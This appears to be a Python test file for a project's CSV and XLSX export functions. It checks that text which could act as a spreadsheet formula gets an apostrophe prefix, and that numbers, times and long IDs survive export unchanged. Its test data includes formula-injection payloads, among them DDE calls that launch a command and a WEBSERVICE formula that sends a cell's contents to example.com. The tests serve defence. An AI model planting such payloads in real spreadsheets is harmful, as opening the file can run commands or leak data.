"""Exports: no text of a stranger becomes a formula, and honest values stay what they are."""

import csv
import io
import math
import unicodedata
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from qunce.runtime import exports
from qunce.runtime.exports import safe_cell, write_csv, write_xlsx

HARMFUL = [
    ("a formula", "=1+1"),
    ("a formula after a blank", " =1+1"),
    ("a formula after a tab", "\t=1"),
    ("a formula after a line break", "\n=1"),
    ("a formula after a carriage return", "\r=1"),
    ("a full-width equals sign", "＝1"),
    ("a small equals sign", "﹦1"),
    ("a full-width plus", "＋1＋1"),
    ("a full-width at sign", "＠SUM(1)"),
    ("a formula after an ideographic space", "\u3000=1"),
    ("a formula after a zero-width space", "\u200b=1"),
    ("a formula after a byte order mark", "\ufeff=1"),
    ("a DDE call", "=cmd|' /C calc'!A0"),
    ("a DDE call behind a plus", "+cmd|' /C calc'!A0"),
    ("a DDE call behind a minus", "-2+3+cmd|' /C calc'!A0"),
    ("an old-style function", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("a web call", '=WEBSERVICE("http://example.com/?"&A1)'),
    ("a sum that looks like a phone", "+86-138-0013-8000"),
]
HARMLESS = [
    "-12.5",
    "-1,234.50",
    "+8613800138000",
    "-3%",
    "13800138000",
    "你好=世界",
    "a@b.cn",
    "",
    " ",
    "'quoted",
    "什么时候发货？",
    "5-1",
]


@pytest.mark.parametrize("text", [text for _, text in HARMFUL], ids=[name for name, _ in HARMFUL])
def test_what_could_run_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text).startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_cannot_run_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


ANY_TEXT = st.text(st.characters() | st.sampled_from("=+-@＝＋－＠﹦ \t\r\n\u3000\u200b\ufeff\x00|'\"1,;"), max_size=12)


def _first_visible(text: str) -> str:
    shown = text.strip().lstrip("\u200b\ufeff\u2060").lstrip()
    return unicodedata.normalize("NFKC", shown)[:1]


@given(ANY_TEXT)
def test_no_csv_cell_begins_a_formula_unless_it_is_a_number(text: str) -> None:
    file = io.BytesIO()
    write_csv(file, ["名称"], [[text]])
    (header, row) = csv.reader(io.StringIO(file.getvalue().decode("utf-8-sig"), newline=""))
    assert header == ["名称"]
    cell = row[0]
    if _first_visible(cell) in set("=+-@"):
        float(cell.rstrip("%").replace(",", "").replace(".", ""))


@given(ANY_TEXT)
def test_no_xlsx_text_is_a_formula_and_nothing_visible_is_changed(text: str) -> None:
    file = io.BytesIO()
    write_xlsx(file, ["名称"], [[text]])
    file.seek(0)
    cell = load_workbook(file).active["A2"]
    assert cell.data_type == ("n" if cell.value is None else "s")
    assert (cell.value or "") == exports._FORBIDDEN.sub("", text)
    assert cell.quotePrefix or _first_visible(cell.value or "") not in set("=+-@")


def test_numbers_stay_numbers_and_times_are_local() -> None:
    rows: list[list[exports.Cell]] = [[-12.5, Decimal("3.20"), 7, None, datetime(2026, 1, 1, 16, 0, tzinfo=UTC), math.nan]]
    file = io.BytesIO()
    write_csv(file, ["a"] * 6, rows)
    assert file.getvalue().decode("utf-8-sig").splitlines()[1] == '-12.5,3.20,7,"","2026-01-02 00:00:00",""'
    file = io.BytesIO()
    write_xlsx(file, ["a"] * 6, rows)
    file.seek(0)
    values = [cell.value for cell in load_workbook(file).active[2]]
    assert values == [-12.5, 3.2, 7, None, datetime(2026, 1, 2), None]  # noqa: DTZ001 - a spreadsheet knows no zones


def test_long_ids_keep_every_digit_in_xlsx() -> None:
    file = io.BytesIO()
    write_xlsx(file, ["id"], [[12345678901234567890]])
    file.seek(0)
    assert load_workbook(file).active["A2"].value == "12345678901234567890"


def test_a_full_sheet_goes_on_in_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "MAX_XLSX_ROWS", 3)
    file = io.BytesIO()
    write_xlsx(file, ["n"], [[n] for n in range(5)], title="成员/名单")
    file.seek(0)
    book = load_workbook(file)
    assert [[row[0] for row in sheet.values] for sheet in book] == [["n", 0, 1], ["n", 2, 3], ["n", 4]]


def test_a_text_too_long_for_a_cell_is_cut_between_characters() -> None:
    file = io.BytesIO()
    write_xlsx(file, ["t"], [["😀" * 20_000]])
    file.seek(0)
    assert load_workbook(file).active["A2"].value == "😀" * (exports.MAX_XLSX_TEXT // 2)


def test_an_empty_table_still_has_its_header() -> None:
    csv_file, xlsx_file = io.BytesIO(), io.BytesIO()
    write_csv(csv_file, ["群", "=x"], [])
    write_xlsx(xlsx_file, ["群", "=x"], [])
    assert csv_file.getvalue().decode("utf-8-sig") == '"群","\'=x"\r\n'
    xlsx_file.seek(0)
    assert [cell.value for cell in load_workbook(xlsx_file).active[1]] == ["群", "=x"]
